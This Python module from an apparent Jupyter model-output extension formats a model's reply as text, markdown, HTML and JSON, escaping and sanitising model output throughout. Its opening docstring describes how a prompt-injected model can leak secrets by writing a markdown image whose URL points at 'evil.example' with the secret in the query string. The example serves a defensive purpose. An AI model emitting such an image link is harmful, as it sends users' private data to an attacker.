"""How a Reply looks: text, markdown, HTML and a JSON bundle for the lab extension.

Model output is never trusted as HTML or markdown (a prompt-injected model can write
``![x](https://evil.example/p.png?d=SECRET)`` to leak data the moment its answer is shown,
or ``<script>``). Every form that a front end renders goes through
:mod:`gptoss_magics.safe_markdown`: raw HTML shows as text, images become
``[image: alt]`` links that load nothing, only http(s)/mailto/relative links stay live;
ordinary markdown renders as usual. What each MIME type carries:

- ``text/plain``: the answer and reasoning verbatim (shown as text, never as HTML);
  with tools, one line per call between the reasoning and the answer;
- ``text/markdown``: the answer re-written as escaped markdown, the reasoning escaped in
  one ``<pre>`` line (a blank line in it cannot end the HTML block);
- ``text/html``: the answer rendered by the safe renderer, everything else escaped (the
  tool calls too, in a collapsed block between the reasoning and the answer);
- ``application/vnd.gptoss.reply+json``: the Reply as data (``final`` stays verbatim, so
  that :func:`gptoss_magics.reproduce` can compare it) plus ``final_markdown``, the safe
  markdown, which is what the lab extension should render, and ``tool_trail``, one line of
  text per tool call;
- metadata: the provenance (settings, tokens, timing, chat history) as JSON data, which
  no front end renders.
"""

from __future__ import annotations

import html
import json
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from .reply import Reply

MIME = "application/vnd.gptoss.reply+json"


def _markdown_to_html(text: str) -> str:
    from .safe_markdown import to_html as safe_html

    return safe_html(text)


def _md_text(text: str) -> str:
    """Plain text (a notice, a warning, the footer) as markdown showing exactly it."""
    from .safe_markdown import escape_text

    return escape_text(text).replace("\n", " ")


def trail(reply: Reply) -> list[str]:
    """One line of plain text per tool call of ``reply`` (displays escape them)."""
    from .tools import trail_lines

    return trail_lines(reply.tool_calls)


def _calls_label(reply: Reply) -> str:
    n = len(reply.tool_calls)
    return f"Tool calls ({n})" if n != 1 else "Tool call (1)"


def footer(reply: Reply) -> str:
    """One line: model, effort, tokens, latency, speed."""
    parts = [reply.model, f"effort {reply.effort}",
             f"{reply.prompt_tokens} prompt + {reply.completion_tokens} completion tokens"]
    if reply.tool_calls:
        n = len(reply.tool_calls)
        parts.append(f"{n} tool call{'s' if n != 1 else ''}")
    if reply.reasoning_cut:
        parts.append(f"reasoning cut at its budget of {reply.analysis_tokens} tokens")
    elif reply.analysis_tokens:
        parts.append(f"{reply.analysis_tokens} reasoning")
    if reply.confidence is not None:
        parts.append(f"confidence {reply.confidence:.2f}")
    parts.append(f"{reply.latency_s:.2f} s")
    parts.append(f"{reply.tokens_per_s:.0f} tok/s")
    return " · ".join(parts)


def _show_reasoning(show: bool | None) -> bool:
    if show is not None:
        return show
    from .settings import settings

    return bool(settings().show_reasoning)


def to_text(reply: Reply, show_reasoning: bool | None = None) -> str:
    """Readable plain text, for terminals and logs."""
    lines = []
    if reply.notice:
        lines.append(f"[{reply.notice}]")
    if reply.warning:
        lines.append(f"[warning: {reply.warning}]")
    shown = bool(reply.analysis) and _show_reasoning(show_reasoning)
    if shown:
        lines.append("--- reasoning ---")
        lines.append(reply.analysis)
    elif reply.analysis:
        lines.append(f"[reasoning: {reply.analysis_tokens} tokens, hidden; see .analysis]")
    if reply.tool_calls:
        lines.append(f"--- {_calls_label(reply).lower()}; see .tool_calls ---")
        lines.extend(trail(reply))
    if shown or reply.tool_calls:
        lines.append("--- answer ---")
    lines.append(reply.final)
    lines.append(f"-- {footer(reply)}")
    return "\n".join(lines)


def to_markdown(reply: Reply, show_reasoning: bool | None = None) -> str:
    """Markdown: answer as safe markdown, reasoning in a collapsible block.

    The answer is re-written by :func:`gptoss_magics.safe_markdown.to_markdown` (no raw
    HTML, no images); the reasoning is HTML-escaped on a single line, so that no blank
    line in it can end the ``<details>`` HTML block and let the rest be read as markdown.
    """
    from .safe_markdown import to_markdown as safe_md

    out = []
    if reply.notice:
        out.append(f"> *{_md_text(reply.notice)}*\n")
    if reply.warning:
        out.append(f"> **warning:** {_md_text(reply.warning)}\n")
    if reply.analysis:
        opened = " open" if _show_reasoning(show_reasoning) else ""
        reasoning = html.escape(reply.analysis).replace("\r", "&#13;").replace("\n", "&#10;")
        out.append(
            f"<details{opened}><summary>Reasoning ({reply.analysis_tokens} tokens)</summary>"
            f"<pre>{reasoning}</pre></details>\n"
        )
    if reply.tool_calls:
        opened = " open" if _show_reasoning(show_reasoning) else ""
        calls = "&#10;".join(html.escape(line) for line in trail(reply))
        out.append(f"<details{opened}><summary>{_calls_label(reply)}</summary>"
                   f"<pre>{calls}</pre></details>\n")
    out.append(safe_md(reply.final))
    out.append(f"<sub>{_md_text(footer(reply))}</sub>")
    return "\n".join(out)


_STYLE = (
    "<style>.gptoss-reply details{margin:.3em 0}.gptoss-reply summary{cursor:pointer;"
    "color:var(--jp-ui-font-color2,#666)}.gptoss-reasoning{white-space:pre-wrap;"
    "border-left:3px solid var(--jp-border-color2,#ccc);padding-left:.6em;"
    "color:var(--jp-ui-font-color2,#666);font-size:.92em}.gptoss-footer{font-size:.8em;"
    "color:var(--jp-ui-font-color3,#888);margin-top:.4em}.gptoss-notice{font-size:.85em;"
    "font-style:italic;color:var(--jp-ui-font-color2,#777)}.gptoss-warning{color:"
    "var(--jp-warn-color0,#b35900)}.gptoss-tools{white-space:pre-wrap;font-family:"
    "var(--jp-code-font-family,monospace);font-size:.85em;border-left:3px solid "
    "var(--jp-brand-color2,#9ac);padding-left:.6em}</style>"
)


def to_html(reply: Reply, show_reasoning: bool | None = None, *, streaming: bool = False,
            markdown: bool = True) -> str:
    """Self-contained HTML (safe: model text is escaped or sanitised markdown)."""
    parts = [_STYLE, '<div class="gptoss-reply">']
    if reply.notice:
        parts.append(f'<div class="gptoss-notice">{html.escape(reply.notice)}</div>')
    if reply.warning and not streaming:
        parts.append(f'<div class="gptoss-warning">&#9888; {html.escape(reply.warning)}</div>')
    if reply.analysis:
        opened = " open" if (streaming and not reply.final) or _show_reasoning(show_reasoning) \
            else ""
        label = "Reasoning…" if streaming and not reply.final else \
            f"Reasoning ({reply.analysis_tokens} tokens)"
        parts.append(
            f"<details{opened}><summary>{label}</summary>"
            f'<div class="gptoss-reasoning">{html.escape(reply.analysis)}</div></details>'
        )
    if reply.tool_calls:
        opened = " open" if (streaming and not reply.final) or _show_reasoning(show_reasoning) \
            else ""
        calls = html.escape("\n".join(trail(reply)))
        parts.append(f"<details{opened}><summary>{_calls_label(reply)}</summary>"
                     f'<div class="gptoss-tools">{calls}</div></details>')
    answer = _markdown_to_html(reply.final) if markdown else \
        f'<pre style="white-space:pre-wrap">{html.escape(reply.final)}</pre>'
    parts.append(f'<div class="gptoss-final">{answer}</div>')
    if not streaming:
        parts.append(f'<div class="gptoss-footer">{html.escape(footer(reply))}</div>')
    parts.append("</div>")
    return "".join(parts)


def to_json(reply: Reply) -> dict[str, Any]:
    """The JSON bundle the lab extension renders (no token ids: they can be large).

    ``final`` is the answer verbatim (data, for :func:`gptoss_magics.reproduce`); a
    renderer shows ``final_markdown``, the answer as safe markdown (no HTML, no images).
    """
    from .safe_markdown import to_markdown as safe_md

    data = reply.to_dict()
    data.pop("token_ids", None)
    data["final_markdown"] = safe_md(reply.final)
    data["tool_trail"] = trail(reply)
    data["footer"] = footer(reply)
    data["show_reasoning"] = _show_reasoning(None)
    return data


def metadata(reply: Reply) -> dict[str, Any]:
    """Display metadata: the provenance saved with the notebook."""
    prov = dict(reply.provenance)
    prov.update(prompt_tokens=reply.prompt_tokens, completion_tokens=reply.completion_tokens,
                analysis_tokens=reply.analysis_tokens, finish_reason=reply.finish_reason,
                latency_s=reply.latency_s)
    return {"gptoss": json.loads(json.dumps(prov, default=str))}


def reply_bundle(reply: Reply, include: Any = None, exclude: Any = None,
                 show_reasoning: bool | None = None
                 ) -> tuple[dict[str, Any], dict[str, Any]]:
    """The full MIME bundle and metadata of a Reply (honours include/exclude)."""
    makers = {
        "text/plain": lambda: to_text(reply, show_reasoning),
        "text/markdown": lambda: to_markdown(reply, show_reasoning),
        "text/html": lambda: to_html(reply, show_reasoning),
        MIME: lambda: to_json(reply),
    }
    data = {
        mime: make() for mime, make in makers.items()
        if (not include or mime in include) and not (exclude and mime in exclude)
    }
    return data, metadata(reply)
